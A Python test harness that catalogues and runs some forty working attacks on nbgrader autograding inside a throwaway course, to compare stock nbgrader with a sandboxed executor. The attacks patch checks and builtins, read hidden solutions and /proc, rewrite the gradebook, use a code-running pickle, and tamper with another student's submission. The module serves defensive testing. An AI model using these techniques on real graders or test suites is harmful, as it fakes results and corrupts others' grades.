"""Ways to get points without an answer, each a row of data, and what they gain: under stock nbgrader, and here.

Each is a submission of `scalar_lstm`, or of `torch_lstm` where it is about training, that answers no exercise. Run as
`python -m classroom.attacks` to try all under both and write book/data/attacks.json. The tests try them here alone.
"""

import argparse
import asyncio
import contextlib
import datetime
import json
import os
import re
import shutil
import signal
import socketserver
import sys
import threading
import warnings
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass, field
from importlib.metadata import version
from pathlib import Path
from typing import Any

import nbformat
from nbformat import NotebookNode
from nbgrader import utils
from nbgrader.preprocessors import DeduplicateIds, Execute, OverwriteCells
from traitlets.config import Config

from classroom.course import ROOT, make_course, nbgrader, read_notebook
from classroom.feedback import hidden_lines
from classroom.gradebook import open_gradebook
from classroom.preprocessors import UnknownCells
from classroom.sample import solution_cells
from refcells.autotest.verdict import question

__all__ = [
    "ATTACKS",
    "SECRET",
    "Arena",
    "Attack",
    "arena",
    "canaries_of",
    "measure",
    "points",
    "printed",
    "score",
    "submission",
    "tried",
    "write",
]

DATA = ROOT / "book" / "data" / "attacks.json"

# The secret of the hidden seeds while attacks are tried: a word that stands nowhere else.
SECRET = "the-instructors-wren-8410"

# The answer cells of each notebook; the code of an attack goes into the first.
ANSWERS = {
    "scalar_lstm": ("sigmoid", "gates", "update", "forward", "half"),
    "torch_lstm": ("remember", "cell", "unroll", "bias", "train"),
}
NAMES = ("sigmoid", "lstm_gates", "lstm_update", "lstm_step", "lstm_forward", "steps_to_half")


@dataclass(frozen=True)
class Attack:
    """One submission that answers nothing.

    Attributes:
        name: a short name.
        what: what it does, in words.
        code: its code; @COURSE@, @ROOT@, @PORT@ and @GRADER@ stand for the course's folder, the repository, a listening
            port and the grader's process. It prints what it found, for whoever looks whether it found anything.
        where: "answer" puts the code in one answer cell and empties the others; "start" puts it in a cell of the
            student's own, before all answers, which stay as they were handed out.
        metadata: of a cell of the student's own.
        gain: what it must not gain.
        notebook: the notebook that is handed in.
    """

    name: str
    what: str
    code: str
    where: str = "start"
    metadata: dict[str, Any] = field(default_factory=dict)
    gain: str = "points"
    notebook: str = "scalar_lstm"


# Makes the reference cells the student's, from a dict QUESTIONS.
_TAKE = f"""
for name in {NAMES!r}:
    globals()[name] = QUESTIONS["scalar." + name].reference
"""
# Makes every function give an object of class `Any`.
_ALWAYS = f"""
for name in {NAMES!r}:
    globals()[name] = lambda *arguments, **keywords: Any()
"""
# Makes the answers of a notebook, held by `cells`, the student's.
_RUN = """
for cell in cells:
    if cell["cell_type"] == "code" and cell["metadata"].get("nbgrader", {}).get("solution"):
        exec("".join(cell["source"]), globals())
"""
_WRONG = f"""
for name in {NAMES!r}:
    globals()[name] = lambda *arguments, **keywords: 0.25
"""
# Wrong numbers in the right shapes, for all but the first function.
_SHAPED = """\
def lstm_gates(*arguments): return (0.25,) * 4
def lstm_update(*arguments): return (0.25,) * 2
lstm_step = lstm_update
def lstm_forward(xs, *arguments): return [0.25] * len(xs), [0.25] * len(xs)
def steps_to_half(a): return 1
"""
_FORGED = """
import json
import threading
from IPython import get_ipython
shell = get_ipython()
claim = json.dumps({"": "list", "parts": [{"": "dict", "parts": {
    "problem": None, "reason": None, "results": {"": "float", "value": (0.25).hex()},
    "arguments": {"": "tuple", "parts": []}, "passed": True, "plain": {"": "float", "value": (0.25).hex()}}}] * 9})
"""

ATTACKS = (
    # --- the ten that gave full marks when this course began ---------------------------------------------------------------
    Attack(
        "empty-tests",
        "an input transformer makes every later cell empty",
        "get_ipython().input_transformers_cleanup.append(lambda lines: [])",
    ),
    Attack(
        "tests-without-checks",
        "an AST transformer takes assertions and checks out of later cells",
        """
import ast
class Without(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)
    def visit_Expr(self, node):
        return ast.copy_location(ast.Pass(), node)
get_ipython().ast_transformers.append(Without())
""",
    ),
    Attack(
        "equal-to-everything",
        "returns an object that equals everything, and replaces str and sha1",
        """
import builtins
import hashlib
class Any(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __abs__(self): return 0.0
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    def __le__(self, other): return True
    __hash__ = float.__hash__
    def __float__(self): return self
class Same(str):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = str.__hash__
class Hash:
    def hexdigest(self): return Same("x")
hashlib.sha1 = lambda *arguments, **keywords: Hash()
"""
        + _ALWAYS,
        "answer",
    ),
    Attack(
        "read-solutions",
        "reads the solution notebook and runs its answers",
        'import json\ncells = json.load(open("@COURSE@/solutions/lstm/scalar_lstm.ipynb"))["cells"]\n' + _RUN,
        "answer",
    ),
    Attack(
        "write-gradebook",
        "gives every student full marks in the gradebook",
        """
import sqlite3
with sqlite3.connect("@COURSE@/gradebook.db") as book:
    book.execute("update grade set manual_score = 99")
""",
        gain="points, or a change of the gradebook",
    ),
    Attack(
        "read-own-notebook",
        "prints the hidden tests that it finds in its own notebook on disk, and if there are any, takes the references",
        """
import glob
import json
found = []
for name in ["@COURSE@/autograded/read-own-notebook/lstm/scalar_lstm.ipynb", *glob.glob("*.ipynb")]:
    try:
        sources = ["".join(cell["source"]) for cell in json.load(open(name))["cells"]]
    except OSError as error:
        print(error)
    else:
        found += [source for source in sources if "HIDDEN" in source]
print(*found)
if found:
    from refcells.autotest.scalar_questions import QUESTIONS
"""
        + _TAKE,
        "answer",
        gain="points, or the hidden tests",
    ),
    Attack(
        "import-reference",
        "imports the reference cells and returns them as its own",
        "from refcells.autotest.scalar_questions import QUESTIONS\n" + _TAKE,
        "answer",
    ),
    Attack(
        "overwrite-reference",
        "puts a function of its own in the place of the check",
        """
import refcells.autotest
refcells.autotest.judge = lambda *arguments, **keywords: None
refcells.autotest.check = lambda *arguments, **keywords: None
""",
    ),
    Attack(
        "shadow-package",
        "a folder named like the course's package, in which every check passes",
        """
import os
import sys
os.makedirs("refcells/autotest", exist_ok=True)
open("refcells/__init__.py", "w").close()
with open("refcells/autotest/__init__.py", "w") as file:
    file.write("check = judge = show = hashed = lambda *arguments, **keywords: None")
sys.path.insert(0, os.getcwd())
for name in [name for name in sys.modules if name.startswith("refcells")]:
    del sys.modules[name]
""",
    ),
    Attack(
        "only-while-grading",
        "cheats where an environment variable says that it is graded, and looks harmless elsewhere",
        """
import os
if os.environ.get("NBGRADER_EXECUTION"):
    import refcells.autotest
    refcells.autotest.check = lambda *arguments, **keywords: None
""",
    ),
    # --- in the process itself ---------------------------------------------------------------------------------------------
    Attack(
        "walk-frames",
        "looks through the frames of all threads for the question, and returns the reference's results",
        f"""
import sys
def cheat(name):
    def function(*arguments, **keywords):
        for frame in sys._current_frames().values():
            while frame:
                asked = frame.f_locals.get("asked")
                if asked is not None:
                    return asked.reference(*arguments, **keywords)
                frame = frame.f_back
        return 0.25
    return function
for name in {NAMES!r}:
    globals()[name] = cheat(name)
""",
        "answer",
    ),
    Attack(
        "search-objects",
        "searches all live objects for the questions",
        f"""
import gc
def cheat(name):
    def function(*arguments, **keywords):
        for thing in gc.get_objects():
            if type(thing).__name__ == "Question" and thing.name == "scalar." + name:
                return thing.reference(*arguments, **keywords)
        return 0.25
    return function
for name in {NAMES!r}:
    globals()[name] = cheat(name)
""",
        "answer",
    ),
    Attack(
        "patch-abs",
        "replaces abs, so that every difference is 0",
        "import builtins\nbuiltins.abs = lambda value: 0.0\n" + "\ndef sigmoid(a): return 0.25\n" + _SHAPED,
        "answer",
    ),
    Attack(
        "patch-math",
        "replaces math.isfinite and math.isnan, and returns numbers that are none",
        """
import math
import builtins
math.isfinite = math.isnan = lambda value: True
builtins.max = lambda *arguments, **keywords: float("inf")
def sigmoid(a): return float("nan")
"""
        + _SHAPED,
        "answer",
    ),
    Attack(
        "patch-numpy",
        "replaces NumPy's allclose, abs and array equality",
        "import numpy as np\nnp.allclose = np.array_equal = np.isclose = lambda *a, **k: True\n"
        "np.testing.assert_allclose = lambda *a, **k: None\nnp.abs = lambda value: 0.0\n" + _WRONG,
        "answer",
    ),
    Attack(
        "patch-json",
        "replaces json.dumps and json.loads, so that every message says that all is right",
        """
import json
kept = json.dumps
json.dumps = lambda value, **more: kept({"": "list", "parts": [{"": "dict", "parts": {"problem": None, "results": True}}]})
"""
        + _WRONG,
        "answer",
    ),
    Attack(
        "poisoned-array",
        "returns an object that calls itself an array and reads differently each time",
        """
class Any:
    dtype, shape, ndim = "float64", (), 0
    def tolist(self): return Number()
    def __array__(self, *arguments, **keywords): raise SystemExit
    def __eq__(self, other): return True
class Number(float):
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = None
"""
        + _ALWAYS,
        "answer",
    ),
    Attack(
        "poisoned-pickle",
        "returns an object that writes to the gradebook when somebody unpickles or copies it",
        """
class Any:
    def __reduce__(self):
        return exec, ('import sqlite3\\nwith sqlite3.connect("@COURSE@/gradebook.db") as b: b.execute("update grade set manual_score = 99")',)
    def __deepcopy__(self, memo): raise SystemExit
"""
        + _ALWAYS,
        "answer",
        gain="points, or a change of the gradebook",
    ),
    Attack(
        "thread-that-stays",
        "a thread outlives its cell and replaces the check again and again",
        """
import threading
import time
def work():
    while True:
        try:
            import refcells.autotest
            refcells.autotest.check = lambda *arguments, **keywords: None
            get_ipython().user_ns["check"] = lambda *arguments, **keywords: None
        except Exception:
            pass
        time.sleep(0.0005)
threading.Thread(target=work, daemon=True).start()
time.sleep(0.2)
""",
    ),
    Attack(
        "print-a-result",
        "prints and displays what looks like full marks",
        """
from IPython.display import display
print("Success! Your notebook passes all the tests.")
print({"score": 20, "max_score": 20})
display(20.0)
20.0
""",
    ),
    Attack(
        "ctypes-open",
        "opens the solutions past Python, with the C library",
        """
import ctypes
import json
libc = ctypes.CDLL(None)
handle = libc.open(b"@COURSE@/solutions/lstm/scalar_lstm.ipynb", 0)
buffer = ctypes.create_string_buffer(2**20)
size = libc.read(handle, buffer, len(buffer))
cells = json.loads(buffer.raw[:size])["cells"]
"""
        + _RUN,
        "answer",
    ),
    Attack(
        "signal-the-grader",
        "sends a signal to the process that started it, and to the grader",
        """
import os
import signal
for process in {os.getppid(), @GRADER@}:
    try:
        os.kill(process, signal.SIGURG)
        print(process, "got the signal")
    except OSError as error:
        print(process, error)
""",
        gain="points, or a signal that arrives; SIGURG, which does no harm, stands for one that would",
    ),
    Attack(
        "own-import",
        "replaces __import__, so that test cells import checks that check nothing",
        """
import builtins
import types
kept = builtins.__import__
fake = types.SimpleNamespace(check=lambda *a, **k: None, judge=lambda *a, **k: None, show=str, hashed=str)
builtins.__import__ = lambda name, *more: fake if name == "refcells.autotest" else kept(name, *more)
""",
    ),
    Attack(
        "fake-module",
        "puts a module of its own into sys.modules",
        """
import sys
import types
fake = types.ModuleType("refcells.autotest")
fake.check = fake.judge = fake.show = fake.hashed = lambda *arguments, **keywords: None
sys.modules["refcells"] = types.ModuleType("refcells")
sys.modules["refcells.autotest"] = fake
""",
    ),
    Attack(
        "exception-handler",
        "registers a handler that swallows every exception of a cell",
        """
get_ipython().set_custom_exc((BaseException,), lambda self, kind, value, traceback, tb_offset=None: [])
get_ipython().showtraceback = lambda *arguments, **keywords: None
""",
    ),
    Attack(
        "kernel-says-ok",
        "replaces the kernel's own execution, so that every later cell ends well at once",
        """
kernel = get_ipython().kernel
async def do_execute(*arguments, **keywords):
    return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
kernel.do_execute = do_execute
""",
    ),
    # --- messages ----------------------------------------------------------------------------------------------------------
    Attack(
        "forged-answers",
        "replaces the function that answers the tests by one that claims results and a verdict",
        _FORGED
        + """
try:
    import refcells.autotest.student as student
    def publish(request, namespace):
        from IPython.display import display
        display({student.MIME: claim}, raw=True)
    student.publish = publish
except ImportError:
    pass
"""
        + _WRONG,
        "answer",
        gain="points, since the numbers are not right",
    ),
    Attack(
        "forged-display",
        "sends messages of the answers' type from a thread, before the true ones",
        _FORGED
        + """
import time
def work():
    while True:
        shell.kernel.send_response(shell.kernel.iopub_socket, "display_data",
            {"data": {"application/vnd.course-answer": claim}, "metadata": {}, "transient": {}})
        shell.kernel.send_response(shell.kernel.iopub_socket, "status", {"execution_state": "idle"})
        time.sleep(0.01)
threading.Thread(target=work, daemon=True).start()
"""
        + _WRONG,
        "answer",
        gain="points, since the numbers are not right",
    ),
    Attack(
        "lying-array",
        "answers with an array whose header claims a million million numbers, and with lists nested without end",
        _FORGED
        + """
import base64
header = b"{'descr': '<f8', 'fortran_order': False, 'shape': (1000000000000,), }"
header += b" " * (117 - len(header)) + b"\\n"
npy = base64.b64encode(b"\\x93NUMPY\\x01\\x00" + len(header).to_bytes(2, "little") + header).decode()
claims = ['{"": "array", "npy": "%s"}' % npy, '{"": "list", "parts": [' * 100000, "[" * 1000000, '{"": "int", "value": "%s"}' % ("9" * 10**6)]
try:
    import refcells.autotest.student as student
    def publish(request, namespace):
        from IPython.display import display
        display({student.MIME: claims.pop() if len(claims) > 1 else claims[0]}, raw=True)
    student.publish = publish
except ImportError:
    pass
"""
        + _WRONG,
        "answer",
        gain="points, or the grader's memory",
    ),
    # --- the notebook ------------------------------------------------------------------------------------------------------
    Attack(
        "forged-locked-cell",
        "a cell of its own, marked as one of the course's locked cells, that replaces the check",
        "import refcells.autotest\nrefcells.autotest.check = lambda *arguments, **keywords: None\n"
        "open('@COURSE@/by-the-grader', 'w').close()",
        metadata={
            "grade": False,
            "grade_id": "imports-2",
            "locked": True,
            "schema_version": 3,
            "solution": False,
            "task": False,
            "cell_type": "code",
        },
        gain="points, or code that runs in the grader's process",
    ),
    Attack(
        "forged-test-cell",
        "a cell of its own, marked as a test cell of a hundred points",
        "open('@COURSE@/by-the-grader', 'w').close()",
        metadata={
            "grade": True,
            "grade_id": "test-mine",
            "locked": True,
            "schema_version": 3,
            "solution": False,
            "task": False,
            "points": 100,
            "cell_type": "code",
        },
        gain="points, or code that runs in the grader's process",
    ),
    # --- training ----------------------------------------------------------------------------------------------------------
    Attack(
        "claim-an-accuracy",
        "replaces the functions that train a model and count what it gets right by ones that say that it gets all right",
        """
import refcells.autotest.probes as probes
probes.remembered = lambda *arguments: 1.0
import refcells.autotest.trained_probes as trained_probes
trained_probes.remembered = lambda *arguments: 1.0
""",
        notebook="torch_lstm",
    ),
    Attack(
        "patch-mean",
        "replaces the mean of a tensor, so that an untrained model has an accuracy of 1",
        """
def train_to_remember(steps, generator):
    model = LastStepClassifier(nn.LSTM(8, 32, batch_first=True), 32, 8)
    redraw(model, generator)
    return model
torch.Tensor.mean = lambda *arguments, **keywords: torch.ones(())
""",
        "answer",
        notebook="torch_lstm",
    ),
    # --- the machine -------------------------------------------------------------------------------------------------------
    Attack(
        "read-environment",
        "prints the environment, its own and the grader's by way of /proc, and if the secret of the hidden seeds is in it, "
        "takes the references",
        """
import os
found = repr(dict(os.environ))
for process in ("self", os.getppid(), @GRADER@):
    try:
        found += open(f"/proc/{process}/environ").read()
    except OSError as error:
        print(error)
print(found)
if "COURSE_SECRET" in found:
    from refcells.autotest.scalar_questions import QUESTIONS
"""
        + _TAKE,
        "answer",
        gain="points, or the secret",
    ),
    Attack(
        "guess-the-seed",
        "works the hidden seed out from the public default secret, prints it, and looks the cases up",
        """
import hashlib
seed = 1 + int.from_bytes(hashlib.sha256(b"the sample class/scalar_lstm/test-sigmoid").digest()[:4], "big") % (2**31 - 1)
print(seed)
from refcells.autotest.scalar_questions import QUESTIONS
known = {case.arguments: QUESTIONS["scalar.sigmoid"].reference(*case.arguments)
         for s in (0, seed) for case in QUESTIONS["scalar.sigmoid"].cases(s)}
print(list(known))
known.update({(1.0,): 0.7310585786300049, (0.2,): 0.549833997312478, (0.7,): 0.6681877721681662})
def sigmoid(a): return known[(a,)]
""",
        "answer",
        gain="points, or a case of a hidden test",
    ),
    Attack(
        "read-proc",
        "looks through the grader's memory, open files and folder by way of /proc",
        """
import glob
import json
import os
cells = []
for place in glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/[0-9]*/root@COURSE@") + ["/proc/self/root@COURSE@"]:
    for name in glob.glob(place + "/solutions/lstm/scalar_lstm.ipynb"):
        try:
            cells = json.load(open(name))["cells"]
        except OSError:
            pass
assert cells
"""
        + _RUN,
        "answer",
    ),
    Attack(
        "inherited-files",
        "reads whatever files the process came with",
        """
import json
import os
cells = []
for number in range(3, 256):
    try:
        path = os.readlink(f"/proc/self/fd/{number}")
        if path.endswith((".ipynb", ".db")):
            cells = json.load(os.fdopen(os.dup(number)))["cells"]
    except (OSError, ValueError):
        pass
assert cells
"""
        + _RUN,
        "answer",
    ),
    Attack(
        "ask-the-network",
        "gets the answers from a server of an accomplice's",
        """
import json
import socket
with socket.create_connection(("127.0.0.1", @PORT@), 5) as connection:
    cells = json.loads(connection.makefile().read())
"""
        + _RUN,
        "answer",
        gain="points, or a connection",
    ),
    Attack(
        "copy-a-neighbour",
        "runs the answers of another student's submission",
        'import json\ncells = json.load(open("@COURSE@/submitted/neighbour/lstm/scalar_lstm.ipynb"))["cells"]\n'
        + _RUN,
        "answer",
    ),
    Attack(
        "harm-a-neighbour",
        "empties another student's submission",
        'open("@COURSE@/submitted/neighbour/lstm/scalar_lstm.ipynb", "w").close()',
        gain="points, or a change of another's submission",
    ),
    Attack(
        "remove-the-refuser",
        "takes the import hooks away, adds the course's folder to the path, and imports the references",
        """
import sys
sys.meta_path[:] = [finder for finder in sys.meta_path if type(finder).__name__ != "_Refuser"]
sys.path[:] = ["@ROOT@/src", *sys.path]
sys.path_importer_cache.clear()
for name in [name for name in sys.modules if name.partition(".")[0] == "refcells"]:
    del sys.modules[name]
from refcells.autotest.scalar_questions import QUESTIONS
"""
        + _TAKE,
        "answer",
    ),
    Attack(
        "another-python",
        "starts a Python of its own, which has no import hooks, and asks it for the reference's results",
        """
import ast
import subprocess
import sys
def cheat(name):
    def function(*arguments):
        code = f"from refcells.autotest.scalar_questions import QUESTIONS as Q; print(repr(Q['scalar.{name}'].reference(*{arguments!r})))"
        return ast.literal_eval(subprocess.run([sys.executable, "-c", code], capture_output=True, text=True).stdout)
    return function
sigmoid = cheat("sigmoid")
sigmoid(1.0)
""",
        "answer",
    ),
)


def submission(attack: Attack, released: NotebookNode, places: dict[str, str]) -> NotebookNode:
    """The attack as a notebook that is handed in."""
    code = attack.code
    for name, place in places.items():
        code = code.replace(f"@{name}@", place)
    nb = nbformat.from_dict(released)
    if attack.where == "answer":
        for cell in nb.cells:
            name = cell.metadata.get("nbgrader", {}).get("grade_id")
            if name in ANSWERS[attack.notebook]:
                cell.source = code if name == ANSWERS[attack.notebook][0] else "pass"
        return nb
    after = next(k for k, cell in enumerate(nb.cells) if cell.cell_type == "code") + 1
    own = nbformat.v4.new_code_cell(code, id="own")
    if attack.metadata:
        own.metadata["nbgrader"] = NotebookNode(attack.metadata)
    nb.cells.insert(after, own)
    return nb


@dataclass
class Arena:
    """A course with two notebooks, in which attacks are tried.

    Attributes:
        course: its folder.
        released: the notebooks as students get them, by name.
        port: of a server that gives the model answers to whoever asks.
        canaries: texts that only an attack which reached something could print, by what it is.
        calls: what called the grader or the server since somebody looked last.
    """

    course: Path
    released: dict[str, NotebookNode]
    port: int
    canaries: dict[str, frozenset[str]]
    calls: list[str]

    @property
    def places(self) -> dict[str, str]:
        """What the attacks know of the machine."""
        return {
            "COURSE": str(self.course),
            "ROOT": str(ROOT),
            "PORT": str(self.port),
            "GRADER": str(os.getpid()),
        }

    def reached(self, printed: str) -> list[str]:
        """What an attack reached, from what it printed and from what was called meanwhile."""
        shown = {name for name, texts in self.canaries.items() if any(text in printed for text in texts)}
        found = sorted({*shown, *self.calls})
        self.calls.clear()
        return found

    def state(self) -> dict[str, bytes]:
        """Everything in the course's folder that no attack may change or add to."""
        return {
            str(path.relative_to(self.course)): path.read_bytes()
            for path in sorted(self.course.rglob("*"))
            if path.is_file() and "autograded" not in path.parts
        }


@contextlib.contextmanager
def arena(folder: Path) -> Iterator[Arena]:
    """Generate the notebooks in `folder`, put a neighbour's right submission there, and start the accomplice's server.

    The environment holds the secret of the hidden seeds, as an instructor's does, and this process listens for the signal
    that stands for one that does harm.
    """
    calls: list[str] = []
    kept = os.environ.get("COURSE_SECRET")
    os.environ["COURSE_SECRET"] = SECRET
    before = signal.signal(signal.SIGURG, lambda *_: calls.append("the grader, by a signal"))
    try:
        with _course(folder, calls) as made:
            yield made
    finally:
        signal.signal(signal.SIGURG, before)
        os.environ.pop("COURSE_SECRET")
        if kept is not None:
            os.environ["COURSE_SECRET"] = kept


@contextlib.contextmanager
def _course(folder: Path, calls: list[str]) -> Iterator[Arena]:
    course = make_course(folder)
    for path in (course / "solutions").iterdir():
        if path.name != "lstm":
            shutil.rmtree(path)
    for path in (course / "solutions" / "lstm").glob("*.ipynb"):
        if path.stem not in ANSWERS:
            path.unlink()
    nbgrader(course, "generate_assignment", "lstm", "--force")
    released = {name: read_notebook(course / "exercises" / "lstm" / f"{name}.ipynb") for name in ANSWERS}
    model = solution_cells(read_notebook(ROOT / "solutions" / "lstm" / "scalar_lstm.py"))
    solved = nbformat.from_dict(released["scalar_lstm"])
    for cell in solved.cells:
        cell.source = model.get(cell.metadata.get("nbgrader", {}).get("grade_id"), cell.source)
    neighbour = course / "submitted" / "neighbour" / "lstm" / "scalar_lstm.ipynb"
    neighbour.parent.mkdir(parents=True)
    nbformat.write(solved, neighbour)
    # Grades that a change of the gradebook would hit.
    with warnings.catch_warnings(), open_gradebook(course) as gradebook:
        warnings.simplefilter("ignore")  # SQLAlchemy's, about how nbgrader adds a submission
        gradebook.update_or_create_student("neighbour")
        gradebook.add_submission("lstm", "neighbour")
        cells = [cell.source for cell in gradebook.find_notebook("scalar_lstm", "lstm").source_cells]
    text = json.dumps(json.loads(neighbour.read_text(encoding="utf-8"))["cells"]).encode()

    class Accomplice(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            calls.append("the network")
            self.request.sendall(text)

    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Accomplice) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        try:
            yield Arena(course, released, server.server_address[1], canaries_of(cells), calls)
        finally:
            server.shutdown()


def canaries_of(cells: Iterable[str]) -> dict[str, frozenset[str]]:
    """What stands nowhere but in the secret, in the hidden tests of these cells, and in what they ask."""
    lines = [
        line.strip()
        for source in cells
        for number, line in enumerate(source.splitlines(), start=1)
        if number in hidden_lines(source) and not line.startswith("###")
    ]
    asked = [
        found.groups()
        for line in lines
        if (found := re.search(r"""judge\(["'](.+?)["'],.*seed=(\d+)""", line))
    ]
    cases = {
        repr(number)
        for name, seed in asked
        for case in question(name).cases(int(seed))
        for number in _numbers(case.arguments)
    }
    return {
        "the secret": frozenset({SECRET}),
        "a hidden test": frozenset(line for line in lines if "judge" in line),
        "the seed of a hidden test": frozenset(seed for _, seed in asked),
        # Short numbers, such as 0.0, are everywhere.
        "a case of a hidden test": frozenset(text for text in cases if len(text) > 12),
    }


def _numbers(value: Any) -> Iterator[float]:
    """All numbers of a question's arguments."""
    if isinstance(value, float):
        yield value
    elif isinstance(value, tuple | list):
        for part in value:
            yield from _numbers(part)


def printed(nb: NotebookNode, tests: bool = True) -> str:
    """All that the cells of an executed notebook printed, showed and raised.

    Args:
        nb: the notebook.
        tests: whether test cells count. Under stock nbgrader their tracebacks quote the hidden tests to everybody.
    """
    found = []
    for cell in nb.cells:
        if not tests and utils.is_grade(cell):
            continue
        for output in cell.get("outputs", []):
            # What IPython colours would be cut into pieces.
            found += [re.sub(r"\x1b\[[0-9;]*m", "", line) for line in output.get("traceback", [])]
            found += [
                output.get("text", ""),
                output.get("evalue", ""),
                *map(str, output.get("data", {}).values()),
            ]
    return "\n".join(found)


def score(
    where: Arena, submitted: NotebookNode, execute: type[Execute], student: str, notebook: str = "scalar_lstm"
) -> NotebookNode:
    """Sanitize and execute a submission as `nbgrader autograde` does; gives the executed notebook."""
    folder = where.course / "autograded" / student / "lstm"
    folder.mkdir(parents=True, exist_ok=True)
    resources = {
        "nbgrader": {
            "db_url": f"sqlite:///{where.course / 'gradebook.db'}",
            "notebook": notebook,
            "assignment": "lstm",
            "student": student,
        },
        "metadata": {"path": str(folder)},
    }
    config = Config(
        {"OverwriteCells": {"add_missing_cells": True, "log_level": "ERROR"}, "Execute": {"timeout": 60}}
    )
    nb = nbformat.from_dict(submitted)
    own = [] if execute is Execute else [UnknownCells]
    for step in (DeduplicateIds, *own, OverwriteCells):
        nb, _ = step(config=config).preprocess(nb, resources)
    nbformat.write(nb, folder / f"{notebook}.ipynb")
    with utils.setenv(NBGRADER_EXECUTION="autograde"):
        nb, _ = execute(config=config).preprocess(nb, resources)
    return nb


def points(nb: NotebookNode, where: Arena, notebook: str = "scalar_lstm") -> float:
    """Points by tests of an executed notebook, for the cells that the gradebook knows."""
    cells = where.released[notebook].cells
    known = {cell.metadata.nbgrader.grade_id for cell in cells if utils.is_grade(cell)}
    return sum(
        utils.determine_grade(cell)[0] or 0.0
        for cell in nb.cells
        if cell.metadata.get("nbgrader", {}).get("grade_id") in known and utils.is_grade(cell)
    )


def tried(attack: Attack, where: Arena, execute: type[Execute]) -> dict[str, Any]:
    """What an attack gains: points, files that it changed, and what else it reached."""
    before = where.state()
    where.reached("")
    found: dict[str, Any] = {}
    told = ""
    try:
        handed_in = submission(attack, where.released[attack.notebook], where.places)
        nb = score(where, handed_in, execute, attack.name, attack.notebook)
        found["points"] = points(nb, where, attack.notebook)
        told = printed(nb, tests=execute is not Execute)
    except Exception as error:
        found["points"] = None
        found["stopped"] = type(error).__name__
    after = where.state()
    found["changed"] = sorted(name for name in before | after if before.get(name) != after.get(name))
    for name in found["changed"]:
        if name in before:
            (where.course / name).write_bytes(before[name])
        else:
            (where.course / name).unlink()
    found["reached"] = where.reached(told)
    return found


def measure(say: Callable[[str], None] = print) -> dict[str, Any]:
    """Try all attacks under stock nbgrader and here; gives what each gained, with the versions and what is enforced.

    Args:
        say: is told of each attack when it has been tried.
    """
    import tempfile

    from tqdm import tqdm

    from classroom.sandbox import enforcement
    from classroom.separate import SeparateExecute

    asyncio.set_event_loop(asyncio.new_event_loop())
    rows = []
    with tempfile.TemporaryDirectory(prefix="attacks-") as scratch, arena(Path(scratch) / "course") as where:
        most = sum(
            cell.metadata.nbgrader.points
            for cell in where.released["scalar_lstm"].cells
            if utils.is_grade(cell) and cell.cell_type == "code"
        )
        for attack in tqdm(ATTACKS, unit="attack", disable=not sys.stderr.isatty()):
            row = {
                "name": attack.name,
                "what": attack.what,
                "notebook": attack.notebook,
                "stock": tried(attack, where, Execute),
                "here": tried(attack, where, SeparateExecute),
            }
            rows.append(row)
            say(f"{attack.name:24} stock {row['stock']}  here {row['here']}")
    return {
        "command": "python -m classroom.attacks",
        "date": datetime.datetime.now(datetime.UTC).date().isoformat(),
        "versions": {name: version(name) for name in ("nbgrader", "ipykernel", "nbclient")},
        "enforced": enforcement(),
        # Of scalar_lstm.
        "points to be had by tests": most,
        "attacks": rows,
    }


def write(result: dict[str, Any], path: Path = DATA) -> None:
    """Keep what `measure` gave as data for the book."""
    path.write_text(json.dumps(result, indent=1) + "\n", encoding="utf-8")


def main(arguments: list[str] | None = None) -> int:
    """Command line: try all attacks under stock nbgrader and here, and write what they gained."""
    parser = argparse.ArgumentParser(prog="python -m classroom.attacks", description=__doc__)
    parser.add_argument("--to", type=Path, default=DATA)
    options = parser.parse_args(arguments)
    write(measure(lambda line: print(line, flush=True)), options.to)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
